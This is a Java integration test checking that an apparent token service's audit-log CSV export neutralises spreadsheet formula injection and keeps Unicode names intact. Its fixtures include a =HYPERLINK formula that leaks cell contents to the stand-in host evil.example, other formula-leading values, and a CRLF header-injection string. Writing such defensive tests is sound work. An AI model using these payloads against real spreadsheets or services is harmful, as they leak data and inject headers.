package com.versionforge.token.query.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.versionforge.token.api.Scope;
import com.versionforge.token.api.TenantId;
import com.versionforge.token.api.TokenId;
import com.versionforge.token.query.testing.MutableClock;
import com.versionforge.token.query.testing.QuerySideClient;
import com.versionforge.token.query.testing.QuerySideIntegrationTest;
import com.versionforge.token.query.testing.StubCommandSide;
import com.versionforge.token.query.testing.TokenHistory;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * The CSV export is safe to open in a spreadsheet: whatever a token is called, its name comes back as text in one
 * cell, never as a formula, and every character survives.
 */
@QuerySideIntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AuditCsvIT {

    private static final TenantId TENANT = new TenantId("csv-co");
    private static final TokenId ADMIN_TOKEN = new TokenId(UUID.fromString("00000000-0000-4000-8000-0000000c0001"));
    private static final Instant NOW = MutableClock.DEFAULT_NOW;
    private static final String REQUEST_ID = "req\r\nX-Injected: 1, \"two\"";
    private static final String ACTOR = "\tuser:tab";

    /** Hostile names, and what the spreadsheet must show for each. */
    private static final Map<String, String> NAMES = names();

    @Autowired
    private TokenHistory history;

    @Autowired
    private StubCommandSide commandSide;

    @Autowired
    private QuerySideClient client;

    private String admin;

    private static Map<String, String> names() {
        Map<String, String> names = new LinkedHashMap<>();
        names.put(
                "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click me\")",
                "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click me\")");
        names.put("+1", "'+1");
        names.put("-1", "'-1");
        names.put("@SUM(A1:A9)", "'@SUM(A1:A9)");
        names.put("=1+1", "'=1+1");
        names.put("\"Quoted\", with a comma", "\"Quoted\", with a comma");
        names.put("Semi;colon 'single' quotes", "Semi;colon 'single' quotes");
        names.put("Déploiement 🚀 生产 — ünïcödé", "Déploiement 🚀 生产 — ünïcödé");
        return names;
    }

    @BeforeAll
    void givenTokensWithHostileNames() {
        admin = commandSide.pass("csv-admin", TENANT, ADMIN_TOKEN, Scope.ADMIN);
        int i = 0;
        for (String name : NAMES.keySet()) {
            TokenId token = new TokenId(UUID.nameUUIDFromBytes(("csv-" + i++).getBytes(StandardCharsets.UTF_8)));
            history.append(
                    token,
                    TokenHistory.created(token, TENANT, name, Scope.READ_ONLY, NOW, NOW.plus(Duration.ofDays(30))),
                    TokenHistory.requestMetadata(ACTOR, "-1.2.3.4", REQUEST_ID));
        }
        history.awaitAudit();
    }

    @Test
    void keepsEveryHostileNameAsTextInOneCell() throws IOException {
        List<Map<String, String>> rows = export("type=token-created");

        assertThat(rows).extracting(row -> row.get("tokenName")).containsExactlyElementsOf(NAMES.values());
        assertThat(rows).allSatisfy(row -> {
            assertThat(row).hasSize(11);
            assertThat(row.get("type")).isEqualTo("token-created");
        });
    }

    @Test
    void neutralisesEveryCellThatASpreadsheetWouldRun() throws IOException {
        List<Map<String, String>> rows = export("");

        assertThat(rows).isNotEmpty().allSatisfy(row -> {
            assertThat(row.get("actor")).isEqualTo("'" + ACTOR);
            assertThat(row.get("clientIp")).isEqualTo("'-1.2.3.4");
            assertThat(row.get("requestId")).isEqualTo(REQUEST_ID);
            assertThat(row.values()).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
        });
    }

    @Test
    void startsWithAByteOrderMarkAndAHeaderRow() {
        HttpResponse<String> response = client.get("/api/v1/audit-events", admin, "Accept", "text/csv");

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.body())
                .startsWith("\uFEFF\"id\",\"occurredAt\",\"type\",\"tokenId\",\"tokenName\",\"actor\",");
        assertThat(response.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"audit-events.csv\"");
    }

    @Test
    void refusesBadParametersOfAnExportAsProblemJson() {
        HttpResponse<String> response = client.get("/api/v1/audit-events?from=yesterday", admin, "Accept", "text/csv");

        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        assertThat(client.json(response).get("code").asText()).isEqualTo("from-invalid");
    }

    /** The export of that query, parsed back by the CSV library, one map from column to cell per row. */
    private List<Map<String, String>> export(String query) throws IOException {
        HttpResponse<String> response = client.get("/api/v1/audit-events?" + query, admin, "Accept", "text/csv");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        String body = response.body();
        assertThat(body).startsWith("\uFEFF");

        List<Map<String, String>> rows = new ArrayList<>();
        CsvMapper csv = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<List<String>> lines =
                csv.readerForListOf(String.class).readValues(body.substring(1))) {
            List<String> header = lines.next();
            lines.forEachRemaining(line -> {
                assertThat(line).hasSameSizeAs(header);
                Map<String, String> row = new LinkedHashMap<>();
                for (int i = 0; i < header.size(); i++) {
                    row.put(header.get(i), line.get(i));
                }
                rows.add(row);
            });
        }
        return rows;
    }
}
